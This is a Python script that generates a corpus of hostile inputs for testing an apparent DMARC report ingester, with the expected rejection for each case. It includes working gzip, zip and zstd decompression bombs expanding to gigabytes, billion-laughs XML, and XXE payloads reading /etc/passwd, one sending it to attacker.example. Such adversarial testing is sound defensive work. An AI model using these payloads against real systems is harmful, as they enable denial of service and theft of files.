#!/usr/bin/env python3
"""make_bombs.py — writes dmarcpipe's corpus of hostile inputs.

    make_bombs.py OUTDIR          write every case into OUTDIR
    make_bombs.py --list          print the cases and what each expects

The files are generated, never committed: about 175 MB in all (one is
100 MB), and the compressed bombs expand to between 100 MiB and 8 GiB.
Generation needs only the standard library and takes a few seconds: the
payloads are never built in memory.  A deflate stream compressed with Z_FULL_FLUSH ends on a byte
boundary with no back-references past it, so 1 MiB of spaces is compressed
once and that piece repeated; gzip and zip containers are then written by
hand around the raw deflate stream, with a CRC computed incrementally.

Every case is an input that dmarcpipe must reject, in bounded memory and
without crashing.  CASES below is also what run_bombs.py checks: for each
file, a regular expression (case-insensitive) that the one-line error on
stderr must match.  The patterns name the reason, not the exact wording.
"""
import base64
import os
import random
import struct
import sys
import zlib

GiB = 1 << 30
MiB = 1 << 20
STAMP = ".bombs-stamp"
VERSION = "7"  # bump when a case changes, so stale files are regenerated

# ---- report pieces ---------------------------------------------------------

HEAD = b"""<?xml version="1.0" encoding="UTF-8"?>
<feedback>
  <report_metadata>
    <org_name>Bomb Squad</org_name>
    <email>noreply@bomb.example</email>
    <report_id>bomb-1</report_id>
    <date_range><begin>1700000000</begin><end>1700086400</end></date_range>
  </report_metadata>
  <policy_published><domain>bomb.example</domain><p>none</p><pct>100</pct></policy_published>
"""

RECORD = b"""  <record>
    <row><source_ip>192.0.2.1</source_ip><count>%s</count>
      <policy_evaluated><disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated>
    </row>
    <identifiers><header_from>bomb.example</header_from></identifiers>
    <auth_results><spf><domain>bomb.example</domain><result>pass</result></spf></auth_results>
  </record>
"""

TAIL = b"</feedback>\n"


def report(counts=(b"1",)):
    return HEAD + b"".join(RECORD % c for c in counts) + TAIL


# A compact valid report, for the zip with many members.
TINY = (b'<?xml version="1.0"?><feedback><report_metadata><org_name>t</org_name>'
        b'<report_id>%d</report_id><date_range><begin>1</begin><end>2</end></date_range>'
        b'</report_metadata><policy_published><domain>t.example</domain><p>none</p>'
        b'</policy_published><record><row><source_ip>192.0.2.1</source_ip><count>1</count>'
        b'</row><identifiers><header_from>t.example</header_from></identifiers></record></feedback>')

# ---- deflate without building the payload ----------------------------------


def _segment(data, final):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


class Deflated:
    """A raw deflate stream of prefix + fill * reps + suffix, with its CRC."""

    def __init__(self, prefix, fill, reps, suffix):
        piece = _segment(fill, False)
        self.raw = _segment(prefix, False) + piece * reps + _segment(suffix, True)
        crc = zlib.crc32(prefix)
        for _ in range(reps):
            crc = zlib.crc32(fill, crc)
        self.crc = zlib.crc32(suffix, crc)
        self.size = len(prefix) + len(fill) * reps + len(suffix)

    @classmethod
    def of(cls, data):
        return cls(data, b"", 0, b"")


def gzip_bytes(d):
    """A gzip member around a Deflated (RFC 1952)."""
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + d.raw + struct.pack("<II", d.crc & 0xFFFFFFFF, d.size & 0xFFFFFFFF)


def gzip_plain(data):
    return gzip_bytes(Deflated.of(data))


def zip_bytes(members, descriptor=False):
    """A zip of (name, Deflated) members (method 8).  Sizes are in the local
    headers, so both streaming and central-directory readers see them; with
    `descriptor`, they come after the data instead (flag bit 3), as a writer
    that streams does it, and a streaming reader must inflate a member to
    find its end even when it means to skip it."""
    out = bytearray()
    central = bytearray()
    flags = 8 if descriptor else 0
    for name, d in members:
        if d.size >= 0xFFFFFFFF or len(d.raw) >= 0xFFFFFFFF:
            raise ValueError("member too large for a zip without zip64")
        nm = name.encode()
        off = len(out)
        if descriptor:
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x21, 0, 0, 0,
                               len(nm), 0) + nm
            out += d.raw
            out += struct.pack("<IIII", 0x08074B50, d.crc & 0xFFFFFFFF, len(d.raw), d.size)
        else:
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x21,
                               d.crc & 0xFFFFFFFF, len(d.raw), d.size, len(nm), 0) + nm
            out += d.raw
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 8, 0, 0x21,
                               d.crc & 0xFFFFFFFF, len(d.raw), d.size, len(nm), 0, 0, 0, 0,
                               0o100644 << 16, off) + nm
    n = len(members)
    if n > 0xFFFF:
        raise ValueError("too many members for a zip without zip64")
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), len(out), 0)
    return bytes(out + central + eocd)


def zstd_rle_bomb(prefix, fill_byte, total, suffix):
    """A zstd frame (RFC 8878) of raw blocks around RLE blocks: 4 bytes of
    input per 128 KiB of output."""
    block = 128 * 1024
    out = bytearray(b"\x28\xb5\x2f\xfd")  # magic
    out += b"\x00"                          # no content size, no checksum
    out += bytes([(17 - 10) << 3])          # window 2^17
    def hdr(last, btype, size):
        v = last | btype << 1 | size << 3
        return struct.pack("<I", v)[:3]
    for i in range(0, len(prefix), block):
        chunk = prefix[i:i + block]
        out += hdr(0, 0, len(chunk)) + chunk
    left = total
    while left:
        n = min(block, left)
        out += hdr(0, 1, n) + bytes([fill_byte])
        left -= n
    out += hdr(1, 0, len(suffix)) + suffix
    return bytes(out)


def eml(parts, subject=b"Report Domain: bomb.example Submitter: bomb.example Report-ID: 1"):
    """A multipart/mixed message; parts are (content_type, filename, payload)."""
    b = b"==bomb-boundary=="
    out = [b"From: noreply@bomb.example\r\nTo: dmarc@victim.example\r\nSubject: " + subject +
           b"\r\nMessage-ID: <bomb@bomb.example>\r\nDate: Tue, 14 Nov 2023 00:00:00 +0000\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"" + b + b"\"\r\n\r\n"
           b"This is a multi-part message in MIME format.\r\n"]
    out.append(b"--" + b + b"\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
               b"A DMARC aggregate report is attached.\r\n")
    for ctype, fname, payload in parts:
        enc = base64.encodebytes(payload).replace(b"\n", b"\r\n")
        out.append(b"--" + b + b"\r\nContent-Type: " + ctype + b"; name=\"" + fname + b"\"\r\n"
                   b"Content-Disposition: attachment; filename=\"" + fname + b"\"\r\n"
                   b"Content-Transfer-Encoding: base64\r\n\r\n" + enc)
    out.append(b"--" + b + b"--\r\n")
    return b"".join(out)


# ---- the cases -------------------------------------------------------------

def lol9():
    ents = [b'  <!ENTITY lol "lol">']
    ents.append(b'  <!ENTITY lol1 "' + b"&lol;" * 10 + b'">')
    for i in range(2, 10):
        ents.append(b"  <!ENTITY lol%d \"" % i + (b"&lol%d;" % (i - 1)) * 10 + b'">')
    return (b'<?xml version="1.0"?>\n<!DOCTYPE feedback [\n' + b"\n".join(ents) + b"\n]>\n" +
            HEAD.split(b"\n", 2)[2].replace(b"Bomb Squad", b"&lol9;") + RECORD % b"1" + TAIL)


def xxe():
    return (b'<?xml version="1.0"?>\n<!DOCTYPE feedback [\n'
            b'  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' +
            HEAD.split(b"\n", 2)[2].replace(b"Bomb Squad", b"&xxe;") + RECORD % b"1" + TAIL)


def param_entity():
    # External parameter entity (out-of-band XXE), then a parameter-entity
    # expansion that defines a general entity: both need DTD processing.
    return (b'<?xml version="1.0"?>\n<!DOCTYPE feedback [\n'
            b'  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n'
            b'  %remote;\n'
            b'  <!ENTITY % file SYSTEM "file:///etc/passwd">\n'
            b'  <!ENTITY % def "<!ENTITY &#x25; send SYSTEM \'http://attacker.example/?%file;\'>">\n'
            b'  %def;\n'
            b']>\n' + HEAD.split(b"\n", 2)[2] + RECORD % b"1" + TAIL)


def comment_bomb(size):
    """A valid report with `size` bytes of spaces in a comment: it would be
    accepted if nothing capped the decompression."""
    reps = size // MiB
    return Deflated(HEAD + b"  <!-- ", b" " * MiB, reps, b" -->\n" + RECORD % b"1" + TAIL)


def text_node(size):
    """`size` bytes of text in one element (<org_name>)."""
    pre, post = HEAD.split(b"Bomb Squad")
    return pre, b"A" * MiB, size // MiB, post + RECORD % b"1" + TAIL


def sparse(n, rnd, every=200):
    """n bytes of 'A' with a random capital letter in every `every`: deflates
    about 1:70, so a big payload stays under the 250:1 ratio cap and has to
    be stopped by some other limit."""
    b = bytearray(b"A" * n)
    for i in range(0, n - every + 1, every):
        b[i + rnd.randrange(every)] = rnd.randrange(65, 91)
    return bytes(b)


def nested_gzip(data, times):
    for _ in range(times):
        data = gzip_plain(data)
    return data


def build(outdir):
    """Writes every case; returns {filename: bytes written}."""
    os.makedirs(outdir, exist_ok=True)
    rnd = random.Random(20240229)
    sizes = {}

    def put(name, data):
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
        sizes[name] = len(data)

    put("billion_laughs.xml", lol9())
    put("xxe_external_entity.xml", xxe())
    put("parameter_entity.xml", param_entity())

    bomb = comment_bomb(GiB)
    gz_bomb = gzip_bytes(bomb)
    put("gzip_bomb.xml.gz", gz_bomb)
    put("zip_bomb.zip", zip_bytes([("report.xml", bomb)]))
    # Many members, each 16 MiB of comment: 1 GiB in all; every member
    # alone is a 1:1000 bomb, and they add up.
    small = comment_bomb(16 * MiB)
    put("zip_bomb_many_members.zip", zip_bytes([("r%03d.xml" % i, small) for i in range(64)]))
    # Members ingest skips unread: a macOS resource fork (skipped by name)
    # and members after one that was rejected at its first bytes.  Written
    # with data descriptors, so skipping means inflating: 4000 MiB each.
    skip_bomb = Deflated(b"", b" " * MiB, 4000, b"")
    put("zip_skipped_member_bomb.zip",
        zip_bytes([("__MACOSX/._report.xml", skip_bomb),
                   ("report.xml", Deflated.of(report()))], descriptor=True))
    doctype_bomb = Deflated(b'<?xml version="1.0"?>\n<!DOCTYPE feedback [<!ENTITY a "a">]>\n<!-- ',
                            b" " * MiB, 4000, b" -->\n")
    put("zip_rejected_member_remainder.zip",
        zip_bytes([("a.xml", doctype_bomb), ("b.xml", doctype_bomb),
                   ("report.xml", Deflated.of(report()))], descriptor=True))
    # More members than max_parts (10000), each a valid little report.
    put("zip_too_many_members.zip",
        zip_bytes([("r%05d.xml" % i, Deflated.of(TINY % i)) for i in range(10050)]))
    # The same in an mbox: more messages than max_parts.
    put("mbox_too_many_messages.mbox", b"".join(
        b"From dmarc@bomb.example Tue Nov 14 00:00:00 2023\nFrom: dmarc@bomb.example\n"
        b"Subject: report %d\nContent-Type: text/xml\n\n" % i + TINY % i + b"\n\n"
        for i in range(10050)))
    # gzip of gzip: each layer's ratio is modest, their product is not.
    put("gzip_in_gzip_bomb.xml.gz.gz", gzip_plain(gz_bomb))
    put("zip_of_gzip_bomb.zip", zip_bytes([("report.xml.gz", Deflated.of(gz_bomb))]))
    put("zstd_bomb.xml.zst", zstd_rle_bomb(HEAD + b"  <!-- ", 0x20, GiB, b" -->\n" + RECORD % b"1" + TAIL))
    put("nested_layers.xml.gz8", nested_gzip(report(), 8))

    deep = HEAD + b"<x>" * 100000 + b"</x>" * 100000 + b"\n" + RECORD % b"1" + TAIL
    put("deep_nesting.xml", deep)

    pre, fill, reps, post = text_node(100 * MiB)
    with open(os.path.join(outdir, "text_node_100mb.xml"), "wb") as f:
        f.write(pre)
        for _ in range(reps):
            f.write(fill)
        f.write(post)
    sizes["text_node_100mb.xml"] = len(pre) + len(fill) * reps + len(post)
    put("text_node_100mb.xml.gz", gzip_bytes(Deflated(pre, fill, reps, post)))

    # One markup token of 100 MB, compressed about 1:70 (under the ratio
    # cap): expat buffers a token whole, so each needs a cap of its own.
    fill = sparse(MiB, rnd)
    ha, hb = HEAD.split(b"<org_name>Bomb Squad")
    big_tokens = {
        "comment_100mb.xml.gz": (HEAD + b"  <!-- ", b" -->\n"),
        "processing_instruction_100mb.xml.gz": (HEAD + b"  <?pi ", b" ?>\n"),
        "attribute_100mb.xml.gz": (ha + b'<org_name lang="', b'">Bomb Squad' + hb),
        "element_name_100mb.xml.gz": (HEAD + b"  <x", b"/>\n"),
    }
    for name, (a, b) in big_tokens.items():
        put(name, gzip_bytes(Deflated(a, fill, 100, b + RECORD % b"1" + TAIL)))
    # 100 MB of text straight inside <record>, a container whose own text
    # the parser does not even look at: no event for 100 MB.
    rec = (RECORD % b"1").split(b"<row>")
    put("container_text_100mb.xml.gz",
        gzip_bytes(Deflated(HEAD + rec[0], fill, 100, b"<row>" + rec[1] + TAIL)))
    # Each leaf under the 64 KiB text cap, but 1000 auth_results x 4 leaves
    # make one 256 MB record; 1000 <error>s make 64 MB of report metadata.
    v = sparse(64000, rnd)
    dkim = (b"<dkim><domain>" + v + b"</domain><selector>" + v + b"</selector><result>" + v +
            b"</result><human_result>" + v + b"</human_result></dkim>\n")
    rec = (RECORD % b"1").split(b"<auth_results>")
    put("auth_results_256mb.xml.gz",
        gzip_bytes(Deflated(HEAD + rec[0] + b"<auth_results>", dkim, 999, rec[1] + TAIL)))
    meta = HEAD.split(b"</report_metadata>")
    put("report_errors_64mb.xml.gz",
        gzip_bytes(Deflated(meta[0], b"<error>" + v + b"</error>\n", 1000,
                            b"</report_metadata>" + meta[1] + RECORD % b"1" + TAIL)))

    put("count_overflow.xml", report([b"99999999999999999999999"]))
    put("count_sum_overflow.xml", report([b"18446744073709551615", b"18446744073709551615"]))
    put("count_negative.xml", report([b"-1"]))

    # A real-sized report (records enough to span several deflate blocks),
    # cut in the middle of its deflate stream and in the middle of a member.
    big = report([str(i).encode() for i in range(1, 400)])
    gz = gzip_plain(big)
    put("truncated.xml.gz", gz[:len(gz) // 2])
    z = zip_bytes([("report.xml", Deflated.of(big))])
    put("truncated.zip", z[:len(z) // 2])

    # Mail whose structure, not its attachment, is the bomb: GMime builds
    # headers and the MIME tree in memory before ingest sees a part.
    attach = base64.encodebytes(gzip_plain(report())).replace(b"\n", b"\r\n")
    attach_hdr = (b"MIME-Version: 1.0\r\nContent-Type: application/gzip; name=\"r.xml.gz\"\r\n"
                  b"Content-Transfer-Encoding: base64\r\n\r\n")
    with open(os.path.join(outdir, "mail_huge_header.eml"), "wb") as f:
        f.write(b"From: dmarc@bomb.example\r\nSubject: ")
        for _ in range(16):
            f.write(b"A" * MiB)
        f.write(b"\r\n" + attach_hdr + attach)
    sizes["mail_huge_header.eml"] = os.path.getsize(os.path.join(outdir, "mail_huge_header.eml"))
    line = b"X-Filler: " + b"a" * 60 + b"\r\n"
    put("mail_many_headers.eml", b"From: dmarc@bomb.example\r\n" + line * (16 * MiB // len(line)) +
        attach_hdr + attach)
    put("mail_many_parts.eml",
        b"From: dmarc@bomb.example\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=\"B\"\r\n\r\n" +
        b"--B\r\nContent-Type: image/png\r\n\r\nx\r\n" * 200000 +
        b"--B\r\nContent-Type: application/gzip; name=\"r.xml.gz\"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + attach + b"--B--\r\n")

    garbage = rnd.randbytes(4096)
    put("wrong_mime_zip_garbage.eml", eml([(b"application/zip", b"report.zip", garbage)]))
    put("zip_magic_then_garbage.zip", b"PK\x03\x04" + garbage)
    put("gzip_bomb_attachment.eml",
        eml([(b"application/gzip", b"bomb.example!victim.example!1700000000!1700086400.xml.gz",
              gz_bomb)]))

    with open(os.path.join(outdir, STAMP), "w") as f:
        f.write(VERSION + "\n")
    return sizes


# file name -> (what the error line must match, description)
CASES = {
    "billion_laughs.xml": (r"DOCTYPE|entit", "classic lol9 entity expansion with a DOCTYPE"),
    "xxe_external_entity.xml": (r"DOCTYPE|entit", "external entity SYSTEM file:///etc/passwd"),
    "parameter_entity.xml": (r"DOCTYPE|entit", "external and nested parameter entities"),
    "gzip_bomb.xml.gz": (r"ratio", "1 GiB of spaces in a comment, gzip 1:1000"),
    "zip_bomb.zip": (r"ratio", "the same as a deflated zip member"),
    "zip_bomb_many_members.zip": (r"ratio", "64 zip members of 16 MiB each, 1:1000"),
    "zip_too_many_members.zip": (r"too many", "10050 members, over max_parts"),
    "zip_skipped_member_bomb.zip": (r"ratio", "a __MACOSX/ member of 4000 MiB, data descriptor"),
    "zip_rejected_member_remainder.zip": (r"DOCTYPE", "2 members rejected at byte 40, then 4000 MiB each"),
    "mbox_too_many_messages.mbox": (r"too many", "10050 messages, each a report"),
    "gzip_in_gzip_bomb.xml.gz.gz": (r"ratio", "the gzip bomb gzipped again"),
    "zip_of_gzip_bomb.zip": (r"ratio", "the gzip bomb as a zip member"),
    "zstd_bomb.xml.zst": (r"ratio", "1 GiB of RLE blocks in zstd, 1:32000"),
    "nested_layers.xml.gz8": (r"nested too deep|layer", "a report gzipped 8 times"),
    "deep_nesting.xml": (r"nesting", "100k nested elements"),
    "text_node_100mb.xml": (r"text of one element", "100 MB of text in <org_name>"),
    "text_node_100mb.xml.gz": (r"text of one element|ratio", "the same, gzipped"),
    "comment_100mb.xml.gz": (r": limit: ", "a 100 MB comment, deflated 1:70"),
    "processing_instruction_100mb.xml.gz": (r": limit: ", "a 100 MB processing instruction"),
    "attribute_100mb.xml.gz": (r": limit: ", "a 100 MB attribute value on <org_name>"),
    "element_name_100mb.xml.gz": (r": limit: ", "a 100 MB element name"),
    "container_text_100mb.xml.gz": (r": limit: .*run of text", "100 MB of text directly in <record>"),
    "auth_results_256mb.xml.gz": (r": limit: ", "one record of 999 dkim results x 4 x 64000 B"),
    "report_errors_64mb.xml.gz": (r": limit: ", "1000 <error> elements of 64000 B"),
    "count_overflow.xml": (r"count.*(overflow|64-bit|too large|out of range)",
                           "<count>99999999999999999999999</count>"),
    "count_sum_overflow.xml": (r"overflow", "two counts of 2^64-1"),
    "count_negative.xml": (r"count", "<count>-1</count>"),
    "truncated.xml.gz": (r"truncat|corrupt|unexpected end|premature|unclosed|no element|incomplete",
                         "a gzip cut in half"),
    "truncated.zip": (r"truncat|corrupt|unexpected end|premature|unclosed|no element|incomplete",
                      "a zip cut in half"),
    "wrong_mime_zip_garbage.eml": (r"not a report|no aggregate report|corrupt|zip",
                                   "application/zip attachment of random bytes"),
    "zip_magic_then_garbage.zip": (r"corrupt|zip|truncat", "PK\\3\\4 then random bytes"),
    "gzip_bomb_attachment.eml": (r"ratio", "base64 attachment holding the gzip bomb"),
    "mail_huge_header.eml": (r": (limit|mime): ", "a 16 MiB Subject header"),
    "mail_many_headers.eml": (r": (limit|mime): ", "16 MiB of 72-byte header fields"),
    "mail_many_parts.eml": (r": (limit|mime): ", "200000 image/png parts, then the report"),
}


# Cases that fail because of a known ingest bug, not yet fixed: run_bombs.py
# reports them as XFAIL without failing, and as XPASS once they pass (then
# delete the entry).  Each entry says what goes wrong today.
KNOWN_BUGS = {}


def fresh(outdir):
    """True when outdir holds this version's files."""
    try:
        with open(os.path.join(outdir, STAMP)) as f:
            if f.read().strip() != VERSION:
                return False
    except OSError:
        return False
    return all(os.path.exists(os.path.join(outdir, n)) for n in CASES)


def main(argv):
    if len(argv) == 2 and argv[1] == "--list":
        for name, (pat, desc) in CASES.items():
            print("%-36s %-46s /%s/" % (name, desc, pat))
        return 0
    if len(argv) != 2 or argv[1].startswith("-"):
        print("usage: make_bombs.py OUTDIR | --list", file=sys.stderr)
        return 2
    sizes = build(argv[1])
    assert set(sizes) == set(CASES), set(sizes) ^ set(CASES)
    for name in CASES:
        print("%-36s %12d bytes" % (name, sizes[name]))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
